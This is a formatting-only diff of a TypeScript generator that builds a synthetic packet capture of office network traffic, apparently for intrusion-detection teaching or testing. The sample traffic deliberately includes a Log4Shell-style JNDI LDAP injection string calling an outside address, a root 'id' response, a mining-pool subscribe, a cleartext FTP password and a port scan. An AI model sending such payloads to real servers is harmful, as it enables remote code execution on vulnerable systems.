@@ -14,12 +14,26 @@ class Office {
   }
 
   /** A whole connection: handshake, the two messages, the end. */
-  conversation(client: string, server: string, ports: [number, number], request: string, response: string): void {
+  conversation(
+    client: string,
+    server: string,
+    ports: [number, number],
+    request: string,
+    response: string,
+  ): void {
     const [sourcePort, destinationPort] = ports;
     const up = (flags: string, seq: number, ack: number, payload = ""): void =>
-      this.add(tcp({ sourcePort, destinationPort, flags, seq, ack, payload }).over(ipv4({ source: client, destination: server })).over(ethernet()));
+      this.add(
+        tcp({ sourcePort, destinationPort, flags, seq, ack, payload })
+          .over(ipv4({ source: client, destination: server }))
+          .over(ethernet()),
+      );
     const down = (flags: string, seq: number, ack: number, payload = ""): void =>
-      this.add(tcp({ sourcePort: destinationPort, destinationPort: sourcePort, flags, seq, ack, payload }).over(ipv4({ source: server, destination: client })).over(ethernet()));
+      this.add(
+        tcp({ sourcePort: destinationPort, destinationPort: sourcePort, flags, seq, ack, payload })
+          .over(ipv4({ source: server, destination: client }))
+          .over(ethernet()),
+      );
     const sent = 1001 + request.length;
     const answered = 5001 + response.length;
     up("S", 1000, 0);
@@ -39,15 +53,57 @@ class Office {
 export function firstLook(): Uint8Array {
   const office = new Office();
   const page = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello";
-  office.conversation("10.0.0.21", "192.0.2.10", [40001, 80], "GET / HTTP/1.1\r\nHost: example.org\r\n\r\n", page);
-  office.add(udp({ sourcePort: 5353, destinationPort: 53, payload: "not really a query" }).over(ipv4({ source: "10.0.0.21", destination: "10.0.0.1" })).over(ethernet()));
-  office.add(icmpv4({ type: 8, code: 0, payload: "ping" }).over(ipv4({ source: "10.0.0.21", destination: "10.0.0.1" })).over(ethernet()));
-  office.conversation("10.0.0.22", "192.0.2.66", [40002, 80], "GET /id HTTP/1.1\r\nHost: testmyids.example\r\n\r\n", "HTTP/1.1 200 OK\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n");
-  office.conversation("198.51.100.7", "10.0.0.80", [51000, 8080], "GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\n\r\n", "HTTP/1.1 404 Not Found\r\n\r\n");
-  office.conversation("10.0.0.23", "203.0.113.5", [40003, 3333], '{"id":1,"method":"mining.subscribe","params":[]}\n', '{"id":1,"result":[]}\n');
-  office.conversation("10.0.0.24", "10.0.0.90", [40004, 21], "PASS hunter2\r\n", "230 Logged on\r\n");
+  office.conversation(
+    "10.0.0.21",
+    "192.0.2.10",
+    [40001, 80],
+    "GET / HTTP/1.1\r\nHost: example.org\r\n\r\n",
+    page,
+  );
+  office.add(
+    udp({ sourcePort: 5353, destinationPort: 53, payload: "not really a query" })
+      .over(ipv4({ source: "10.0.0.21", destination: "10.0.0.1" }))
+      .over(ethernet()),
+  );
+  office.add(
+    icmpv4({ type: 8, code: 0, payload: "ping" })
+      .over(ipv4({ source: "10.0.0.21", destination: "10.0.0.1" }))
+      .over(ethernet()),
+  );
+  office.conversation(
+    "10.0.0.22",
+    "192.0.2.66",
+    [40002, 80],
+    "GET /id HTTP/1.1\r\nHost: testmyids.example\r\n\r\n",
+    "HTTP/1.1 200 OK\r\n\r\nuid=0(root) gid=0(root) groups=0(root)\n",
+  );
+  office.conversation(
+    "198.51.100.7",
+    "10.0.0.80",
+    [51000, 8080],
+    "GET /?x=${jndi:ldap://198.51.100.7/a} HTTP/1.1\r\n\r\n",
+    "HTTP/1.1 404 Not Found\r\n\r\n",
+  );
+  office.conversation(
+    "10.0.0.23",
+    "203.0.113.5",
+    [40003, 3333],
+    '{"id":1,"method":"mining.subscribe","params":[]}\n',
+    '{"id":1,"result":[]}\n',
+  );
+  office.conversation(
+    "10.0.0.24",
+    "10.0.0.90",
+    [40004, 21],
+    "PASS hunter2\r\n",
+    "230 Logged on\r\n",
+  );
   for (let port = 1; port <= 40; port++) {
-    office.add(tcp({ sourcePort: 60000, destinationPort: port, flags: "", seq: 1 }).over(ipv4({ source: "198.51.100.9", destination: "10.0.0.80" })).over(ethernet()));
+    office.add(
+      tcp({ sourcePort: 60000, destinationPort: port, flags: "", seq: 1 })
+        .over(ipv4({ source: "198.51.100.9", destination: "10.0.0.80" }))
+        .over(ethernet()),
+    );
   }
   return encodePcap(office.packets, 1);
 }
